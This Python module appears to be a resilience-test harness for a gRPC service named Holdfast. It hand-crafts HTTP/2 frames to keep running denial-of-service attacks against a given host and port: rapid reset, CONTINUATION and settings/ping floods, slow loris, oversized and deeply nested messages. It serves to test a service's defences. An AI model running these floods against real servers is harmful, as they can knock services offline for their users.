"""Callers that mean harm, on raw sockets: HTTP/2 frames made by hand, held back, or never ending.

Each kind is a coroutine that goes on until it is cancelled; whoever runs them looks at what
becomes of honest callers. Run as a program it keeps all of them up until it is killed:

    python -m harness.hostile HOST:PORT EACH [CA CERTIFICATE KEY]

Frames and header fields follow RFC 9113 and RFC 7541. Knows nothing of Holdfast but one path.
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import itertools
import os
import ssl
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator, Sequence
from typing import Final, NamedTuple

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME_HEAD: Final = 9
"""Bytes before a frame's body: its length in three, its kind, its flags, its stream in four."""
PATH: Final = b"/holdfast.v1.GroupService/Heartbeat"
PAUSE_S: Final = 0.02
"""Between two blows of one attacker: the harm shall be theirs, not the machine's that runs them."""

Writer = asyncio.StreamWriter
Attack = Callable[["Target"], Awaitable[None]]


class Target(NamedTuple):
    """Where to, and with which TLS (None: in the clear)."""

    host: str
    port: int
    tls: ssl.SSLContext | None = None


def frame(kind: int, flags: int = 0, stream: int = 0, body: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing and without Huffman's code."""
    return b"\x00" + _integer(len(name)) + name + _integer(len(value)) + value


def _integer(value: int) -> bytes:
    """A length with a prefix of seven bits (RFC 7541, 5.1)."""
    if value < 127:
        return bytes([value])
    rest, out = value - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest])


def call_headers() -> bytes:
    """The header fields with which a call of gRPC begins."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", PATH))
    more = ((b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc"))
    return b"".join(literal(name, value) for name, value in (*fields, *more))


@contextlib.asynccontextmanager
async def connected(target: Target, *, greet: bool = True) -> AsyncIterator[Writer]:
    """A connection; if it is greeted as HTTP/2 wants, settings and pings are acknowledged, too.

    One that is not would be closed for its bad manners, and show nothing of what it came for.
    """
    reader, writer = await asyncio.open_connection(target.host, target.port, ssl=target.tls)
    reading = asyncio.create_task(_acknowledge(reader, writer) if greet else _discard(reader))
    try:
        if greet:
            writer.write(PREFACE + frame(SETTINGS))
            await writer.drain()
        yield writer
    finally:
        reading.cancel()
        writer.close()


async def _acknowledge(reader: asyncio.StreamReader, writer: Writer) -> None:
    """Read what the node sends, and acknowledge what wants it: settings and pings."""
    with contextlib.suppress(OSError, EOFError):
        while True:
            head = await reader.readexactly(FRAME_HEAD)
            body = await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] in {SETTINGS, PING} and not head[4] & ACK:
                writer.write(frame(head[3], ACK, 0, body if head[3] == PING else b""))


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


def streams() -> Iterator[int]:
    """The numbers that a client gives its streams."""
    return itertools.count(1, 2)


async def _repeat(target: Target, blows: Iterator[bytes]) -> None:
    """Send one blow after another on one connection, until it is closed."""
    async with connected(target) as writer:
        for blow in blows:
            writer.write(blow)
            await writer.drain()
            await asyncio.sleep(PAUSE_S)


def _calls(body: Callable[[int], bytes]) -> Iterator[bytes]:
    """Begin one call after another; `body` makes what follows on the stream of that number."""
    begin = call_headers()
    return (frame(HEADERS, END_HEADERS, stream, begin) + body(stream) for stream in streams())


async def garbage(target: Target) -> None:
    """Random bytes instead of a greeting."""
    async with connected(target, greet=False) as writer:
        while True:
            writer.write(os.urandom(4_096))
            await writer.drain()
            await asyncio.sleep(PAUSE_S)


async def silent(target: Target) -> None:
    """A connection on which nothing is ever said."""
    async with connected(target, greet=False):
        await asyncio.Event().wait()


async def slow_loris(target: Target) -> None:
    """A call whose header fields come one byte at a time, and never all."""
    whole = frame(HEADERS, END_HEADERS, 1, call_headers() + literal(b"x", b"y" * 8_000))
    await _repeat(target, (whole[at : at + 1] for at in range(len(whole) - 1)))


async def half_message(target: Target) -> None:
    """Calls that announce a message of a megabyte and send ten bytes of it."""
    begin = struct.pack(">BI", 0, 1 << 20) + b"0123456789"
    await _repeat(target, _calls(lambda stream: frame(DATA, 0, stream, begin)))


async def huge_message(target: Target) -> None:
    """Calls that announce four gigabytes."""
    begin = struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 1_000
    await _repeat(target, _calls(lambda stream: frame(DATA, 0, stream, begin)))


async def rapid_reset(target: Target) -> None:
    """Calls that are begun and reset at once, twenty in a blow (CVE-2023-44487)."""
    numbers = streams()

    def blow() -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, call_headers())
            + frame(RESET, 0, stream, struct.pack(">I", 8))
            for stream in itertools.islice(numbers, 20)
        )

    await _repeat(target, iter(blow, None))


async def endless_headers(target: Target) -> None:
    """Header fields that go on in frame after frame (CVE-2024-27316 and its kin)."""
    first = frame(HEADERS, 0, 1, call_headers())
    more = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 2_000))
    await _repeat(target, itertools.chain([first], itertools.repeat(more)))


async def settings_flood(target: Target) -> None:
    """Settings to be acknowledged, a hundred in a blow (CVE-2019-9515)."""
    await _repeat(target, itertools.repeat(frame(SETTINGS) * 100))


async def ping_flood(target: Target) -> None:
    """Pings to be answered, a hundred in a blow (CVE-2019-9512)."""
    await _repeat(target, itertools.repeat(frame(PING, 0, 0, b"12345678") * 100))


async def nested(target: Target) -> None:
    """Messages nested ten thousand deep, whole and well announced."""
    message = _nested_message()
    pieces = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]

    def whole(stream: int) -> bytes:
        sent = b"".join(frame(DATA, 0, stream, piece) for piece in pieces)
        return sent + frame(DATA, END_STREAM, stream)

    await _repeat(target, _calls(whole))


@functools.cache
def _nested_message() -> bytes:
    body = b""
    for _ in range(10_000):
        body = b"\x0a" + _varint(len(body)) + body
    return struct.pack(">BI", 0, len(body)) + body


def _varint(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


KINDS: Final[dict[str, Attack]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        garbage,
        silent,
        slow_loris,
        half_message,
        huge_message,
        rapid_reset,
        endless_headers,
        settings_flood,
        ping_flood,
        nested,
    )
}


async def keep_up(attack: Attack, target: Target) -> None:
    """Go on with an attack: a connection that the other side closes is made anew."""
    while True:
        with contextlib.suppress(OSError):
            await attack(target)
        await asyncio.sleep(PAUSE_S)


@contextlib.asynccontextmanager
async def under_attack(attacks: Iterable[Attack], targets: Sequence[Target]) -> AsyncIterator[None]:
    """Keep all attacks up against all targets while the body runs."""
    under_way = [
        asyncio.create_task(keep_up(attack, target)) for attack in attacks for target in targets
    ]
    try:
        yield
    finally:
        for task in under_way:
            task.cancel()
        await asyncio.gather(*under_way, return_exceptions=True)


def client_tls(ca: str, certificate: str, key: str) -> ssl.SSLContext:
    """The TLS of a client that a cluster trusts; files in PEM."""
    context = ssl.create_default_context(cafile=ca)
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    context.check_hostname = False
    return context


async def main(address: str, each: str, *tls: str) -> None:
    """Keep all kinds up against one port: `each` with a certificate (if given), and one without."""
    host, _, port = address.rpartition(":")
    context = client_tls(*tls) if tls else None
    targets = [Target(host, int(port), context)] * int(each) + [Target(host, int(port))]
    async with under_attack(KINDS.values(), targets):
        print("under attack", flush=True)
        await asyncio.Event().wait()


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main(*sys.argv[1:]))
